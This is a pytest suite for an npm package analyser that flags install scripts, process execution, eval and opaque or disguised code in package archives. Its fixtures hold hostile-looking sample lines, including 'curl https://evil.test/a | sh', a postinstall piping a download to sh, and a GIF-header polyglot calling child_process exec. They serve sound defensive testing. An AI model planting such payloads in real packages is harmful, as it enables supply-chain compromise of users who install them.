"""Files put together to an analysis: what a reading depends on, what is kept, what is said."""

from __future__ import annotations

from itertools import combinations

import pytest
from tests import tars

from pratique.archives import Archive, Entry
from pratique.capabilities import analysis as analysing
from pratique.capabilities.analysis import (
    LARGEST_CODE,
    MOST_EVIDENCE,
    analyse,
    analyse_artifact,
    read_member,
    role_of,
)
from pratique.gather.worker import Readings, analysed_with, decoded_readings, encoded
from pratique.model.behavior import ANALYSER, Analysis

MANIFEST = b'{"name": "widget", "version": "1.0.0"}'


def analysis(files: dict[str, bytes], oddities: tuple[str, ...] = ()) -> Analysis:
    entries = tuple(Entry(path, content) for path, content in files.items())
    return analyse(Archive(entries, oddities, sum(map(len, files.values()))), "0" * 128)


def evidence(of: Analysis, capability: str) -> list[tuple[str, str]]:
    """(file, what leads to it) of each place, in the order that they are told in."""
    return [(each.file, each.reach) for each in of.evidence if each.capability == capability]


# -- roles -----------------------------------------------------------------------------------------

PATHS = (
    "package.json", "a/Package.json", "Node_Modules/x/Package.json", "a/.NPMRC", "Binding.Gyp",
    "a/package.json", "node_modules/x/package.json",
    "node_modules/x/a/package.json",
    "binding.gyp", "a/binding.gyp", "node_modules/x/binding.gyp", "inner.gyp", "a/common.gypi",
    "npm-shrinkwrap.json", "a/npm-shrinkwrap.json", "node_modules/x/npm-shrinkwrap.json",
    ".npmrc", "a/.npmrc", "npmrc", "a/notes", "notes.npmrc", ".env", "README", "a.txt", "a.md",
    "a.js", "b.js", "a/b.cjs", "a.mjs", "a.ts", "a.d.ts", "a.tsx", "a.jsx", "a.json", "a.map",
    "a.JS", "a.sh", "a.bat", "a.node", "a.wasm", "a.html", "a.css", "a.lock", "a.png", "a",
    "dist/a.min.js", "test/a.js", "lib/postinstall.js", ".github/workflows/a.yml", "a.yml",
)  # fmt: skip
CONTENTS = {
    "manifest": b'{"name": "x", "version": "1.0.0", "gypfile": true, "bin": {"git": "a"},'
    b'"scripts": {"install": "node -e 1", "prepare": "a"}, "dependencies": {"a": "git+ssh://b/c"}}',
    "shrinkwrap": b'{"name": "x", "lockfileVersion": 3, "packages": {"node_modules/a":'
    b'{"version": "1.0.0", "resolved": "https://evil.test/a.tgz"}}}',
    "gyp": b'{"targets": [{"actions": [{"action": ["node", "a.js"]}], "x": "<!(node index.js)"}]}',
    "settings": b"git = ./helper.sh\nscript-shell=./a\n",
    "code": b"const {exec} = require('child_process'); exec('id'); eval(x); fetch(process.env);\n",
    "script": b"#!/bin/sh\ncurl https://evil.test/a | sh\n",
    "node": b"#!/usr/bin/env node\nrequire('child_process').exec('id')\n",
    "elf": b"\x7fELF" + bytes(64),
    "wasm": b"\0asm\1\0\0\0",
    "opaque": b"x = '" + b"QUJD" * 2000 + b"'\n",
    "html": b"<script>eval(atob('x'))</script>\n",
}


@pytest.mark.parametrize("name", CONTENTS)
def test_a_reading_depends_on_nothing_of_a_path_but_its_role(name: str) -> None:
    """Else a stored one, found by role and digest, would be another file's."""
    content = CONTENTS[name]
    for one, other in combinations(PATHS, 2):
        if role_of(one) == role_of(other):
            assert read_member(one, content) == read_member(other, content), (one, other)


def test_code_that_moves_and_is_called_otherwise_keeps_its_role() -> None:
    """So the next version costs what changed in it."""
    assert role_of("dist/chunk-1f.js") == role_of("lib/a.js") == ".js"
    assert role_of("package.json") != role_of("node_modules/a/package.json")
    assert role_of("a/package.json") != role_of("node_modules/a/package.json")


# -- stored readings -------------------------------------------------------------------------------


def test_readings_of_an_earlier_version_give_what_reading_anew_gives() -> None:
    code = CONTENTS["code"]
    one = tars.package(tars.member("package/notes", CONTENTS["settings"]),
                       tars.member("package/a.js", code))  # fmt: skip
    two = tars.package(tars.member("package/.npmrc", CONTENTS["settings"]),
                       tars.member("package/b.js", code))  # fmt: skip
    known: Readings = {}
    analysed_with(one, {}, known)
    stored = decoded_readings(encoded(known))
    assert stored == known
    assert analysed_with(two, stored, {}) == analyse_artifact(two)


@pytest.mark.parametrize("stored", [b"", b"\xc1", b"\x93" * 9000, b"\x81\xa1a\x01", b"{}"])
def test_readings_that_are_not_ours_are_none(stored: bytes) -> None:
    assert decoded_readings(stored) == {}


def test_only_what_counts_for_this_version_is_kept_for_the_next() -> None:
    now: Readings = {}
    analysed_with(tars.package(), {"x:y": read_member("a.js", b"eval(x)")}, now)
    assert [key.partition(":")[0] for key in now] == ["/package.json"]


# -- putting together ------------------------------------------------------------------------------


def test_everything_of_an_artifact_in_one_call() -> None:
    found = analyse_artifact(
        tars.tgz(
            tars.manifest(
                b'{"name": "widget", "version": "1.0.0",'
                b'"scripts": {"install": "make", "test": "x"},'
                b'"dependencies": {"a": "^1"}, "devDependencies": {"b": "2"}, "bin": "./cli.js"}'
            ),
            tars.member("package/cli.js", b"eval(x)\n"),
            tars.member("package/a.node", b"\x7fELF" + bytes(64)),
        )
    )
    assert found.inner is not None
    assert (found.inner.name, found.inner.version) == ("widget", "1.0.0")
    assert found.inner.scripts == (("install", "make"), ("test", "x"))
    assert found.inner.dependencies == (
        ("dependencies", "a", "^1"), ("devDependencies", "b", "2"),
    )  # fmt: skip
    assert found.inner.bins == (("widget", "./cli.js"),)
    assert found.installs == (("install", "make"),)
    assert found.binaries == (("a.node", "elf"),)
    assert (found.files, found.code, found.analyser) == (3, 8, ANALYSER)
    assert {"code.eval", "install.script:install"} <= {
        each.partition(":")[0] if each.startswith("code") else each for each in found.capabilities
    }
    assert found.oddities == ()


def test_equal_bytes_give_equal_analyses_whatever_the_order_of_files() -> None:
    files = {"package.json": MANIFEST, "a.js": CONTENTS["code"], "b.js": b"eval(x)\n"}
    assert analysis(files) == analysis(dict(reversed(files.items())))


@pytest.mark.parametrize("content", [None, b"", b"[]", b"{", b'"x"', b"\xff", b"[" * 100_000])
def test_without_a_manifest_that_can_be_read_it_is_unanalysable(content: bytes | None) -> None:
    files = {"a.js": b"eval(x)\n"} | ({} if content is None else {"package.json": content})
    found = analysis(files)
    assert found.oddities == ("holds no package.json that can be read",)
    assert found.inner is None


def test_what_the_archive_is_odd_by_goes_before() -> None:
    assert analysis({}, ("has bytes behind its end",)).oddities == ("has bytes behind its end",)


def test_evidence_is_bounded_and_what_is_reached_comes_first() -> None:
    files = {f"a{at}.js": b"eval(x)\n" for at in range(9)} | {
        "package.json": b'{"name": "widget", "version": "1.0.0", "main": "z.js", "bin": "y.js",'
        b'"scripts": {"postinstall": "node x.js"}}',
        "z.js": b"eval(x)\n", "y.js": b"eval(x)\n", "x.js": b"eval(x)\n",
    }  # fmt: skip
    found = analysis(files)
    (capability,) = [each for each in found.capabilities if each.startswith("code.eval")]
    assert evidence(found, capability) == [
        ("x.js", "install"), ("y.js", "bin"), ("z.js", "cjs"), ("a0.js", ""), ("a1.js", ""),
    ]  # fmt: skip
    assert len(evidence(found, capability)) == MOST_EVIDENCE


def test_code_that_nothing_leads_to_counts_as_much() -> None:
    reached = {"package.json": MANIFEST, "index.js": b"eval(x)\n"}
    apart = {"package.json": MANIFEST, "index.js": b"\n", "test/fixtures/a.js": b"eval(x)\n"}
    assert analysis(reached).capabilities == analysis(apart).capabilities


# -- bounds ----------------------------------------------------------------------------------------


def test_code_that_is_larger_than_what_is_parsed_is_said_to_be_unread(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(analysing, "LARGEST_CODE", 100)
    large = b"eval(x)\n" * 20
    found = analysis({"package.json": MANIFEST, "a.js": large, "b.js": b"eval(x)\n"})
    assert found.unread == (("a.js", "it is larger than what is parsed"),)
    assert evidence(found, next(iter(found.capabilities)))[0][0] == "b.js"


def test_code_with_more_places_than_are_looked_at_is_opaque(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("pratique.capabilities.code.wanted.MOST_HITS", 20)
    monkeypatch.setattr("pratique.capabilities.code.reading.MOST_HITS", 20, raising=False)
    few, many = b";/*eval*/" * 10 + b"fetch(x)", b";/*eval*/" * 20 + b"fetch(x)"
    assert analysis({"package.json": MANIFEST, "a.js": few}).capabilities == ("net.client:fetch",)
    found = analysis({"package.json": MANIFEST, "a.js": many})
    assert found.capabilities == ("shape.opaque:unparsable",)


def test_what_of_a_file_was_not_kept_is_said_to_be_unread() -> None:
    """Of a file beyond the bound of the archive's reader there are the first bytes alone."""
    entries = (Entry("package.json", MANIFEST), Entry("data", b" " * 100))
    found = analyse(Archive(entries, size=200, cut=("data",)), "0" * 128)
    assert found.unread == (("data", "it is larger than what is read"),)


def test_a_folder_of_commands_shadows_programs_too() -> None:
    manifest = b'{"name": "widget", "version": "1.0.0", "directories": {"bin": "./cmds"}}'
    files = {"package.json": manifest, "cmds/git": b"x", "cmds/other": b"x", "lib/curl": b"x"}
    found = analysis(files)
    assert found.capabilities == ("install.script:shadows",)
    assert [each.snippet for each in found.evidence] == ["directories.bin: cmds/git"]
    has_bin = manifest.replace(b"{", b'{"bin": {"a": "a.js"}, ', 1)
    assert analysis(files | {"package.json": has_bin}).capabilities == ()


def test_a_binding_gyp_is_what_a_client_builds_in_any_case_of_letters() -> None:
    found = analysis({"package.json": MANIFEST, "Binding.gyp": b"{}"})
    assert found.installs == (("install", "node-gyp rebuild"),)


def test_a_manifest_of_a_package_inside_that_cannot_be_read_is_said_to_be_unread() -> None:
    found = analysis({"package.json": MANIFEST, "node_modules/a/package.json": b"{"})
    assert found.unread == (("node_modules/a/package.json", "it is no JSON object"),)
    assert found.oddities == ()


# -- packages inside a package ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "runs"),
    [
        ("node_modules/a/package.json", True),
        ("node_modules/@s/a/package.json", True),
        ("node_modules/a/node_modules/b/package.json", True),
        ("node_modules/a/Package.json", True),
        ("Node_Modules/a/package.json", True),
        ("template/package.json", False),
        ("test/fixtures/a/package.json", False),
        ("lib/node_modules/a/package.json", False),
    ],
)
def test_only_scripts_of_bundled_packages_run(path: str, *, runs: bool) -> None:
    """A template's manifest is text: nobody installs it with the package."""
    script = b'{"scripts": {"postinstall": "curl https://a.test | sh"}, "gypfile": true}'
    found = analysis({"package.json": MANIFEST, path: script})
    assert runs == ("install.script:bundled-postinstall" in found.capabilities)
    assert runs == any(each.startswith("install.") for each in found.capabilities)


@pytest.mark.parametrize(
    ("path", "capability"),
    [
        ("binding.gyp", "install.implicit:gyp"),
        ("Binding.gyp", "install.implicit:gyp"),
        ("node_modules/a/binding.gyp", "install.implicit:bundled-gyp"),
        ("node_modules/@s/a/binding.gyp", "install.implicit:bundled-gyp"),
        ("deps/a/binding.gyp", ""),
    ],
)
def test_a_binding_gyp_of_a_bundled_package_is_built_too(path: str, capability: str) -> None:
    found = analysis({"package.json": MANIFEST, path: b'{"targets": []}'})
    assert {each for each in found.capabilities if each.startswith("install.")} == (
        {capability} if capability else set()
    )


RUNS = b"require('child_process').exec('id')"


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a=1;" + RUNS,
        b"RIFF=1;" + RUNS,
        b"GIF89a/*\0\0\xff\xfe*/=1;" + RUNS,
        RUNS + b" // \0",
        b"/*" + b" licence\n" * 80 + b"*/" + RUNS,
        b"`" + b"text\n" * 100 + b"`;" + RUNS,
        b"var a = {" + b"b:{" * 200 + b"}" * 201 + b";" + RUNS,
        b"while (true) {" + RUNS + b"; break }",
        b"a: {" + RUNS + b"}",
        b"for (const a of [1]) " + RUNS,
        b"export default " + RUNS,
        b"throw " + RUNS,
        b"a = /\1/;" + RUNS,
    ],
)
def test_code_is_found_whatever_it_is_named_and_begins_with(content: bytes) -> None:
    """An engine runs it under any name: `require("./data.bin")`."""
    found = analysis({"package.json": MANIFEST, "data.bin": content})
    assert "exec.process:child_process" in found.capabilities


def test_what_is_too_large_to_parse_is_said_to_be_whatever_it_is_named() -> None:
    large = RUNS + b"\n/*" + b" x\n" * (LARGEST_CODE // 3) + b"*/"
    found = analysis({"package.json": MANIFEST, "data": large})
    assert "shape.opaque:large" in found.capabilities
    assert [path for path, _ in found.unread] == ["data"]


def test_a_manifest_that_cannot_be_read_is_opaque() -> None:
    """JSON to an engine, which follows its `imports`; half a pair of surrogates is none to us."""
    hidden = b'{"a": "\\ud800", "imports": {"#a": "child_process"}}'
    found = analysis({"package.json": MANIFEST, "lib/package.json": hidden})
    assert "shape.opaque:unparsable" in found.capabilities


def test_a_shell_s_program_is_one_although_it_is_named_like_code() -> None:
    program = b'#!/bin/sh -c "exec node"\nid;\n'
    assert (
        "native.binary:shell" in analysis({"package.json": MANIFEST, "a.js": program}).capabilities
    )
